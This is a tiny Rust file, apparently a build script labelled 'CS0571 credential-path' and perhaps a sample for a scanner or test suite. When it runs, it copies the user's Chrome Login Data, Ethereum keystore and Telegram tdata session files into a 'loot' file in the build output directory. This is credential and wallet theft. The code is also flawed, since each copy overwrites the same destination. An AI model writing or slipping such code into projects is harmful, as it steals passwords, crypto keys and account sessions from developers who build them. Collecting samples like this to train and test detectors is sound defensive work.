//! CS0571 credential-path
fn main() {
    let home = std::env::var("HOME").unwrap();
    for place in [".config/google-chrome/Default/Login Data", ".ethereum/keystore", "TelegramDesktop/tdata"] {
        let _ = std::fs::copy(format!("{home}/{place}"), format!("{}/loot", std::env::var("OUT_DIR").unwrap()));
    }
}
